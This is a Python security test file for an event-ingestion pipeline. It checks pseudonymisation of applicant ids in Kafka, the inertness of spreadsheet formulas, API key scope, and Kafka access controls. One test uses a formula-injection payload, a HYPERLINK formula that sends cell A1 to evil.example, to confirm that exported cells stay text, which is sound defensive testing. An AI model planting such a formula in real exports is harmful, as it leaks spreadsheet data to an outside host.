"""Issue 19, Medium 5-8: no raw id in Kafka, no formula in a spreadsheet, keys cover every
location field, and the stream path is as strict as HTTP."""

from __future__ import annotations

import threading
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import openpyxl
import orjson
import pytest
import yaml
from confluent_kafka import Producer

from dvcflow.access import add_key
from dvcflow.settings import Settings
from ingest.broker import ensure_topics
from ingest.pseudonym import Pseudonymizer
from ingest.sink import run_sink
from ingest.store import EventStore
from mining.filters import LogFilter
from tests.conftest import TEST_KEY
from tests.e2e.conftest import broker, consume_all, wait_for  # noqa: F401 (the fixture)
from tests.e2e.test_gateway_http import Served
from tests.security.conftest import PROCEDURE, T0, bearer, dossiers, event, write

DOCKER = Path(__file__).resolve().parents[2] / "docker"
RAW_ID = "079203009999"


@pytest.fixture(scope="module")
def streamed(broker, tmp_path_factory) -> Iterator[dict]:  # noqa: F811
    """One run of gateway, producers and sink: an event posted over HTTP with a raw
    applicant id, a broken message with one produced straight to Kafka, and events on
    integrator int79's own topic (in its scope, outside it, and for a dossier of 01)."""
    tag = uuid.uuid4().hex[:8]
    data = tmp_path_factory.mktemp("stream") / "data"
    keys = data.parent / "keys.json"
    token = add_key(keys, "int79", "integrator", provinces=["79"])
    own_topic = f"ev-{tag}.int79"
    settings = Settings(
        data_dir=data,
        kafka_bootstrap=broker.bootstrap,
        topic_events=f"ev-{tag}",
        topic_dlq=f"dlq-{tag}",
        consumer_group=f"sink-{tag}",
        pseudonym_key=TEST_KEY,
        api_keys_file=keys,
        sink_batch_seconds=0.3,
        stream_producers={"int79": {"topic": own_topic, "provinces": ["79"]}},
    )
    ensure_topics(
        broker.client_config(), {settings.topic_events: 2, settings.topic_dlq: 1, own_topic: 1}
    )
    write(EventStore(data), dossiers(), "registered", T0, "key:seed")
    posted = event("D05", 5, "79", event_id="D05-posted", applicant_id=RAW_ID)
    with Served(settings) as server:
        r = httpx.post(f"{server.url}/v1/events", json=posted, headers=bearer(token), timeout=30)
        assert r.status_code == 202, r.text
    producer = Producer({"bootstrap.servers": broker.bootstrap})
    broken = {**event("D05", 6, "79", applicant_id=RAW_ID), "lifecycle": "middle"}
    producer.produce(settings.topic_events, orjson.dumps(broken), b"broken")
    streamed_events = {
        b"in-scope": event("N79", 0, "79", event_id="N79-0"),
        b"other-province": event("N01", 0, "01", event_id="N01-0"),
        b"other-dossier": event("D00", 7, "79", event_id="D00-by-int79"),  # D00 is 01's
    }
    for key, value in streamed_events.items():
        producer.produce(own_topic, orjson.dumps(value), key)
    assert producer.flush(30) == 0
    stop = threading.Event()
    sink = threading.Thread(target=run_sink, args=(settings, stop), daemon=True)
    sink.start()
    try:
        ids = lambda: set(EventStore(data).read_table()["event_id"].to_pylist())  # noqa: E731
        wait_for(lambda: {"D05-posted", "N79-0"} <= ids(), 60, "the streamed events")
        dlq = consume_all(settings, settings.topic_dlq, 3, timeout=60)
    finally:
        stop.set()
        sink.join(30)
    events = consume_all(settings, settings.topic_events, 2, timeout=30)
    yield {"settings": settings, "dlq": dlq, "events": events, "own_topic": own_topic}


# --- 5. no raw applicant id leaves the gateway or sits in a dead letter ------------------------
@pytest.mark.e2e
def test_m5_no_raw_applicant_id_in_kafka_or_in_dead_letters(streamed):
    # what the gateway produced (the broken message was produced straight to Kafka, raw id
    # and all: README, Security, says what such a producer must do) and every dead letter
    from_gateway = [m for m in streamed["events"] if m.key() != b"broken"]
    assert len(from_gateway) == 1
    values = [m.value() or b"" for m in from_gateway + streamed["dlq"]]
    assert sorted(m.key() for m in streamed["dlq"]) == [
        b"broken",
        b"other-dossier",
        b"other-province",
    ]
    assert not [v for v in values if RAW_ID.encode() in v]
    ref = Pseudonymizer(TEST_KEY.encode()).ref(RAW_ID)
    posted = next(m for m in streamed["events"] if b"D05-posted" in m.value())
    assert orjson.loads(posted.value())["applicant_id"] == ref
    # ... and the store links it as an import would: the same ref, not a hash of the hash
    table = EventStore(streamed["settings"].data_dir).read_table("event_id = 'D05-posted'")
    assert table["applicant_ref"].to_pylist() == [ref]
    broken = next(m for m in streamed["dlq"] if m.key() == b"broken")
    assert dict(broken.headers())["dvc.error.reason"].startswith(b"lifecycle")


# --- 6. spreadsheet cells from data are text ---------------------------------------------------
def test_m6_an_activity_named_like_a_formula_stays_text_in_the_xlsx_brief(tmp_path):
    from mining.report import build_brief, write_xlsx

    store = EventStore(tmp_path / "data")
    trap = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows = [{**e, "activity": trap} if e["activity"] == "appraise" else e for e in dossiers()]
    write(store, rows, "seed", T0)
    path = write_xlsx(build_brief(store, LogFilter(procedure=PROCEDURE)), tmp_path / "b.xlsx")
    sheets = openpyxl.load_workbook(path)
    found = [
        (ws.title, c) for ws in sheets for row in ws.iter_rows() for c in row if c.value == trap
    ]
    assert {"Candidates", "Bottlenecks"} <= {title for title, _ in found}
    assert all(c.data_type == "s" for _, c in found)
    with zipfile.ZipFile(path) as z:  # no formula element anywhere in the workbook
        assert not [
            n for n in z.namelist() if n.startswith("xl/worksheets") and b"<f>" in z.read(n)
        ]


# --- 7. a key's scope covers every location field -----------------------------------------------
def test_m7_a_key_scoped_by_org_unit_cannot_write_another_province(world, tmp_path):
    from fastapi.testclient import TestClient

    from ingest.gateway import create_app

    settings, _ = world
    units = add_key(settings.api_keys_file, "p79-units", "integrator", org_units=["P79.*"])
    with TestClient(create_app(settings)) as client:
        other = event("N01", 0, "01", org_unit="P79.STNMT")
        r = client.post("/api/v1/events", json=other, headers=bearer(units))
        assert r.status_code == 403, r.text


# --- 8. Kafka is not open, and its stream is held to the same rules -----------------------------
def test_m8_compose_binds_kafka_to_localhost_and_ships_a_sasl_profile_with_acls():
    compose = yaml.safe_load((DOCKER / "compose.yaml").read_text())
    assert all(p.startswith("127.0.0.1:") for p in compose["services"]["kafka"]["ports"])
    sasl = yaml.safe_load((DOCKER / "compose.sasl.yaml").read_text())
    env = sasl["services"]["kafka"]["environment"]
    protocols = dict(p.split(":") for p in env["KAFKA_LISTENER_SECURITY_PROTOCOL_MAP"].split(","))
    assert protocols["EXTERNAL"] == "SASL_SSL" and protocols["INTERNAL"].startswith("SASL_")
    assert env["KAFKA_ALLOW_EVERYONE_IF_NO_ACL_FOUND"] == "false"
    assert "StandardAuthorizer" in env["KAFKA_AUTHORIZER_CLASS_NAME"]
    acls = (DOCKER / "kafka" / "acls.sh").read_text()
    integrator = [line for line in acls.splitlines() if "User:${name}" in line]
    assert integrator and all("--operation Read" not in line for line in integrator)
    assert "--topic dvc.events " not in " ".join(integrator)  # never the gateway's topic
    fields = {f"DVCFLOW_{n.upper()}" for n in Settings.model_fields}
    for name, service in sasl["services"].items():
        assert (
            set(v for v in service.get("environment", {}) if v.startswith("DVCFLOW_")) <= fields
        ), name


@pytest.mark.e2e
def test_m8_the_sink_holds_a_producer_topic_to_its_principals_scope(streamed):
    reasons = {m.key(): dict(m.headers())["dvc.error.reason"].decode() for m in streamed["dlq"]}
    assert "outside the scope of int79" in reasons[b"other-province"]
    assert reasons[b"other-dossier"].startswith("case_id")
    table = EventStore(streamed["settings"].data_dir).read_table(
        "event_id IN ('N79-0', 'D05-posted')"
    )
    sources = dict(zip(table["event_id"].to_pylist(), table["source"].to_pylist(), strict=True))
    assert sources == {"N79-0": f"kafka:{streamed['own_topic']}", "D05-posted": "key:int79"}
